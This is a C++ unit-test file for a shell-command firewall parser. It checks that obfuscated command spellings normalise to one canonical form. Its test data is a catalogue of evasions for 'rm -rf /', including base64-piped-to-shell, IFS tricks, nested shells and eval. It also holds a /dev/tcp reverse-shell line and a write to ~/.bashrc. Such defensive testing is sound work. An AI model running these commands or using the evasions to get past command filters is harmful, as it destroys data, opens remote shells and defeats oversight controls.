// The firewall's parser: compound commands are split, nested shells and
// substitutions are opened, and every evasion normalises to one spelling.
#include "policies/shell_parser.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace hotplex::policies {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::IsEmpty;

std::vector<std::string> Lines(std::string_view text) {
  ShellParser parser;
  ParsedScript parsed;
  parser.Parse(text, parsed);
  std::vector<std::string> lines;
  for (std::size_t i = 0; i < parsed.command_count; ++i) lines.push_back(parsed.commands[i].line);
  return lines;
}

std::string Rejection(std::string_view text) {
  ShellParser parser;
  ParsedScript parsed;
  parser.Parse(text, parsed);
  return parsed.rejection;
}

struct NormCase {
  std::string label, input, expected;
};
void PrintTo(const NormCase& c, std::ostream* os) { *os << c.label; }

class ShellNormalisation : public ::testing::TestWithParam<NormCase> {};

TEST_P(ShellNormalisation, ProducesTheCanonicalCommand) {
  EXPECT_THAT(Lines(GetParam().input), Contains(GetParam().expected)) << GetParam().input;
}

INSTANTIATE_TEST_SUITE_P(
    Evasions, ShellNormalisation,
    ::testing::Values(
        NormCase{"Plain", "rm -rf /", "rm -r -f /"},
        NormCase{"EmptyQuotesInWord", "r''m -rf /", "rm -r -f /"},
        NormCase{"DoubleQuotesInWord", "\"r\"m -rf /", "rm -r -f /"},
        NormCase{"Backslash", "r\\m -r\\f /", "rm -r -f /"},
        NormCase{"IfsBraced", "rm${IFS}-rf${IFS}/", "rm -r -f /"},
        NormCase{"IfsBare", "rm$IFS-rf$IFS/", "rm -r -f /"},
        NormCase{"RepeatedSpacesAndTabs", "  rm \t  -rf    /  ", "rm -r -f /"},
        NormCase{"AbsoluteProgramPath", "/bin/rm -rf /", "rm -r -f /"},
        NormCase{"RelativeProgramPath", "../../usr/bin/rm -rf /", "rm -r -f /"},
        NormCase{"LongFlags", "rm --recursive --force /", "rm -r -f /"},
        NormCase{"SplitFlags", "rm -r -f /", "rm -r -f /"},
        NormCase{"ReorderedCluster", "rm -fr /", "rm -f -r /"},
        NormCase{"UpperCaseRecursive", "rm -Rf /", "rm -r -f /"},
        NormCase{"EndOfOptions", "rm -rf -- /", "rm -r -f /"},
        NormCase{"PathDoubleSlash", "rm -rf //", "rm -r -f /"},
        NormCase{"PathDotDot", "rm -rf /usr/../", "rm -r -f /"},
        NormCase{"HomeTrailingSlash", "rm -rf ~/", "rm -r -f ~"},
        NormCase{"HomeBraced", "rm -rf ${HOME}/", "rm -r -f $HOME"},
        NormCase{"EmptyPositional", "r$@m -rf /", "rm -r -f /"},
        NormCase{"AnsiC", "$'\\x72\\x6d' -rf /", "rm -r -f /"},
        NormCase{"AnsiCOctal", "$'\\162\\155' -rf /", "rm -r -f /"},
        NormCase{"LineContinuation", "rm \\\n -rf /", "rm -r -f /"},
        NormCase{"Assignment", "FOO=1 BAR=2 rm -rf /", "rm -r -f /"},
        NormCase{"Keyword", "if true; then rm -rf /; fi", "rm -r -f /"},
        NormCase{"Negation", "! rm -rf /", "rm -r -f /"},
        NormCase{"Subshell", "(cd / && rm -rf /)", "rm -r -f /"},
        NormCase{"BraceGroup", "{ rm -rf /; }", "rm -r -f /"},
        NormCase{"Substitution", "echo $(rm -rf /)", "rm -r -f /"},
        NormCase{"NestedSubstitution", "echo $(echo $(rm -rf /))", "rm -r -f /"},
        NormCase{"Backticks", "echo `rm -rf /`", "rm -r -f /"},
        NormCase{"QuotedSubstitution", "echo \"$(rm -rf /)\"", "rm -r -f /"},
        NormCase{"ProcessSubstitution", "cat <(rm -rf /)", "rm -r -f /"},
        NormCase{"BashC", "bash -c 'rm -rf /'", "rm -r -f /"},
        NormCase{"ShCDoubleQuoted", "sh -c \"rm -rf /\"", "rm -r -f /"},
        NormCase{"BashClusteredC", "bash -xc 'rm -rf /'", "rm -r -f /"},
        NormCase{"NestedShells", "bash -c \"sh -c 'rm -rf /'\"", "rm -r -f /"},
        NormCase{"Eval", "eval rm -rf /", "rm -r -f /"},
        NormCase{"EvalQuoted", "eval 'rm -rf /'", "rm -r -f /"},
        NormCase{"Sudo", "sudo -u root rm -rf /", "rm -r -f /"},
        NormCase{"EnvWrapper", "env -i PATH=/bin rm -rf /", "rm -r -f /"},
        NormCase{"Timeout", "timeout -s KILL 5 rm -rf /", "rm -r -f /"},
        NormCase{"Nohup", "nohup rm -rf / &", "rm -r -f /"},
        NormCase{"Xargs", "echo / | xargs rm -rf", "rm -r -f"},
        NormCase{"FindExec", "find / -exec rm -rf {} \\;", "rm -r -f {}"},
        NormCase{"SshRemote", "ssh host 'rm -rf /'", "rm -r -f /"},
        NormCase{"HereString", "bash <<< 'rm -rf /'", "rm -r -f /"},
        NormCase{"HereDoc", "bash <<EOF\nrm -rf /\nEOF", "rm -r -f /"},
        NormCase{"Base64Pipe", "echo cm0gLXJmIC8= | base64 -d | sh", "rm -r -f /"},
        NormCase{"Base64HereString", "base64 --decode <<< cm0gLXJmIC8= | bash", "rm -r -f /"},
        NormCase{"MarkdownFence", "```bash\nrm -rf /\n```", "rm -r -f /"},
        NormCase{"DollarZero", "$0 -c 'rm -rf /'", "rm -r -f /"},
        NormCase{"VariableProgram", "a=rm; $a -rf /", "rm -r -f /"},
        NormCase{"VariableChain", "a=rm; b=$a; $b -rf /", "rm -r -f /"},
        NormCase{"ExportedVariableTarget", "export T=/etc; rm -rf \"$T\"", "rm -r -f /etc"},
        NormCase{"BraceExpansion", "rm -rf {/etc,/usr}", "rm -r -f /etc /usr"},
        NormCase{"EchoedProgram", "$(echo rm) -rf /", "rm -r -f /"},
        NormCase{"BacktickEchoedProgram", "`printf rm` -rf /", "rm -r -f /"},
        NormCase{"PythonOsSystem", "python3 -c 'import os; os.system(\"rm -rf /\")'", "rm -r -f /"},
        NormCase{"PythonArgvList",
                 "python3 -c 'import subprocess; subprocess.call([\"rm\", \"-rf\", \"/\"])'",
                 "rm -r -f /"},
        NormCase{"PerlBackticks", "perl -e '`rm -rf /`'", "rm -r -f /"}),
    [](const ::testing::TestParamInfo<NormCase>& info) { return info.param.label; });

TEST(ShellParser, SplitsEveryCompoundOperator) {
  EXPECT_THAT(Lines("a1; a2 && a3 || a4 | a5 & a6\na7 |& a8"),
              ElementsAre("a1", "a2", "a3", "a4", "a5", "a6", "a7", "a8"));
}

TEST(ShellParser, KeepsQuotedTextAsOneWord) {
  EXPECT_THAT(Lines("git commit -m 'rm -rf / is bad'"),
              ElementsAre("git commit -m rm -rf / is bad"));
}

TEST(ShellParser, KeepsRedirectionsAsWords) {
  EXPECT_THAT(Lines("bash -i >& /dev/tcp/1.2.3.4/80 0>&1"),
              ElementsAre("bash -i >& /dev/tcp/1.2.3.4/80 0>& 1"));
  EXPECT_THAT(Lines("echo x>>~/.bashrc"), ElementsAre("echo x >> ~/.bashrc"));
}

TEST(ShellParser, AttachesHereDocBodiesToTheirCommand) {
  EXPECT_THAT(Lines("cat <<'EOF' > f\nhello $(not run)\nEOF\nls"),
              ElementsAre("cat << hello $(not run)\n > f", "ls"));
}

TEST(ShellParser, LooksInsideFencesWithoutSkippingAnything) {
  EXPECT_THAT(Lines("ls\n```sh\nmake\n```\npwd"), ElementsAre("ls", "make", "pwd"));
}

TEST(ShellParser, RejectsNulAndControlCharacters) {
  EXPECT_EQ(Rejection(std::string_view("ls\0rm -rf /", 11)),
            "the command contains control character 0x00 at byte 2");
  EXPECT_EQ(Rejection("ls\x1b[2J"), "the command contains control character 0x1b at byte 2");
  EXPECT_EQ(Rejection("echo \x7f"), "the command contains control character 0x7f at byte 5");
  EXPECT_EQ(Rejection("ls\t-la\r\n"), "");
}

TEST(ShellParser, RejectsRunawayNesting) {
  std::string text = "rm -rf /";
  for (int i = 0; i < 20; ++i) text = "echo $(" + text + ")";
  EXPECT_NE(Rejection(text).find("levels deep"), std::string::npos);
}

TEST(ShellParser, ToleratesUnterminatedQuotesInProse) {
  EXPECT_THAT(Lines("Please don't run sudo here"), ElementsAre("Please dont run sudo here"));
}

TEST(ShellParser, InterpreterCodeWithoutProcessesIsNotShell) {
  EXPECT_THAT(Lines("python3 -c 'print(\"rm -rf /\")'"),
              ElementsAre("python3 -c print(\"rm -rf /\")"));
}

TEST(ShellParser, VariableGrowthIsBounded) {
  std::string text = "a=xxxxxxxx";
  for (int i = 0; i < 40; ++i) text += "; a=$a$a";
  text += "; echo $a";
  const auto lines = Lines(text);
  ASSERT_EQ(lines.size(), 1u);
  EXPECT_LT(lines[0].size(), 10000u);
}

TEST(ShellParser, BraceExpansionIsBounded) {
  EXPECT_EQ(Lines("echo {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}")[0].size(),
            std::string("echo").size() + 32 * 7);
}

TEST(ShellParser, EmptyInputHasNoCommands) {
  EXPECT_THAT(Lines(""), IsEmpty());
  EXPECT_THAT(Lines("  # only a comment\n"), IsEmpty());
}

TEST(ShellParser, DecodesBase64Strictly) {
  EXPECT_EQ(DecodeBase64("cm0gLXJmIC8="), "rm -rf /");
  EXPECT_EQ(DecodeBase64("cm0gLXJmIC8"), "rm -rf /");
  EXPECT_EQ(DecodeBase64("not*base64"), "");
}

}  // namespace
}  // namespace hotplex::policies
